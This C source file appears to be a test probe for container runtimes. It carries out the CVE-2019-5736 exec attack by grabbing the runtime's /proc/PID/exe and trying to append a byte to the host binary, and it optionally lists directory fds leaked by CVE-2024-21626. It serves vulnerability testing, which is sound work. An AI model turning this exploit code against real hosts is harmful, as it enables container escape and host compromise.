/* Runs inside a container: the CVE-2019-5736 attack on `exec`. For SECONDS it opens /proc/PID/exe of every
 * other process whose executable is not its own and not /bin/busybox (a runtime joining the container),
 * keeps each fd, then tries to append one byte to each through /proc/self/fd (the runtime has exited by
 * then, so the kernel no longer refuses with ETXTBSY). Prints "opened PATH" per grab and "wrote PATH" or
 * "refused PATH: ERROR" per write, then "done". With --dirs, also every directory such a process holds open
 * ("dir PATH"): through /proc/PID/fd/N/.. it would lead out of the container (CVE-2024-21626's leak).
 *
 *   exe_grab [--dirs] SECONDS */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_GRABS 16

static void print_dirs(int pid)
{
    char path[64];
    struct dirent *de;
    DIR *fds;

    snprintf(path, sizeof(path), "/proc/%d/fd", pid);
    fds = opendir(path);
    while (fds && (de = readdir(fds))) {
        char fd_path[320], link[4096] = "";
        int dir;

        if (de->d_name[0] == '.')
            continue;
        snprintf(fd_path, sizeof(fd_path), "/proc/%d/fd/%s", pid, de->d_name);
        dir = open(fd_path, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (dir < 0)
            continue;
        if (readlink(fd_path, link, sizeof(link) - 1) < 0)
            strcpy(link, "?");
        printf("dir %s\n", link);
        close(dir);
    }
    if (fds)
        closedir(fds);
}

int main(int argc, char **argv)
{
    char self[4096] = "", links[MAX_GRABS][4096];
    int fds[MAX_GRABS], n = 0;
    int dirs = argc > 1 && !strcmp(argv[1], "--dirs");
    time_t end = time(NULL) + (argc > 1 + dirs ? atoi(argv[1 + dirs]) : 10);
    pid_t me = getpid();

    if (readlink("/proc/self/exe", self, sizeof(self) - 1) < 0)
        return 1;
    while (time(NULL) < end && n < MAX_GRABS) {
        DIR *proc = opendir("/proc");
        struct dirent *de;

        if (!proc)
            return 1;
        while ((de = readdir(proc)) && n < MAX_GRABS) {
            char path[64], link[4096] = "";
            int pid = atoi(de->d_name), fd;

            if (pid <= 0 || pid == me)
                continue;
            snprintf(path, sizeof(path), "/proc/%d/exe", pid);
            fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0)
                continue;
            snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
            if (readlink(path, link, sizeof(link) - 1) < 0 || !strcmp(link, self) || !strcmp(link, "/bin/busybox")) {
                close(fd);
                continue;
            }
            fds[n] = fd;
            strcpy(links[n], link);
            printf("opened %s\n", link);
            fflush(stdout);
            n++;
            if (dirs)
                print_dirs(pid);
        }
        closedir(proc);
    }
    sleep(1);
    for (int i = 0; i < n; i++) {
        char path[64];
        int w;

        snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[i]);
        w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (w >= 0 && write(w, "", 1) == 1)
            printf("wrote %s\n", links[i]);
        else
            printf("refused %s: %s\n", links[i], strerror(errno));
        if (w >= 0)
            close(w);
    }
    printf("done\n");
    return 0;
}
